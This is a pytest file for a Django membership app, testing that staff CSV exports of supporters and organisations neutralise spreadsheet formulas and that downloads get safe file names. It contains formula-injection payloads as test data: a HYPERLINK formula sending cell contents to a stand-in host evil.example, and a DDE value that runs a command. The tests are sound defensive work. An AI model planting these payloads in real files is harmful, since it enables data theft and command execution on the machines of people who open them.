"""Staff's CSV of supporters and of organisations go through the one CSV writer (formulas neutralised); every
download, a supporter's own data included, carries a safe file name."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from coalition.lib.tests.helpers import saved_name
from coalition.members.supporters import DATA_LINK_SALT, supporter_token
from coalition.members.tests.factories import OrganisationFactory, SupporterFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Lina")'


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_a_formula_typed_as_a_supporters_name_comes_out_of_the_csv_neutralised(client, carol):
    SupporterFactory(name=FORMULA, email="lina@example.org", country="LB")
    client.force_login(carol)

    response = client.get("/members/staff/supporters/?format=csv")

    [row] = _rows(response)
    assert (row["name"], row["email"], row["country"]) == ("'" + FORMULA, "lina@example.org", "LB")
    assert saved_name(response) == f"supporters-{timezone.localdate().isoformat()}.csv"


def test_a_formula_in_an_organisations_profile_comes_out_of_the_csv_neutralised(client, carol):
    OrganisationFactory(name="@SUM(1+1)", city="-2+3+cmd|' /C calc'!A0", founding_member=True)
    client.force_login(carol)

    response = client.get("/members/staff/organisations/?format=csv")

    [row] = _rows(response)
    assert (row["name"], row["city"]) == ("'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0")
    assert row["founding_member"] == "true"
    assert saved_name(response) == f"organisations-{timezone.localdate().isoformat()}.csv"


def test_a_supporters_own_data_downloads_as_json(client):
    supporter = SupporterFactory(name=FORMULA, email="lina@example.org")
    token = supporter_token(supporter, salt=DATA_LINK_SALT)

    response = client.get(reverse("members:my-data-manage", args=[token]), {"format": "json"})

    assert saved_name(response) == "my-data.json"
    assert json.loads(response.content)["name"] == FORMULA, "JSON is not a spreadsheet: the data stays as typed"
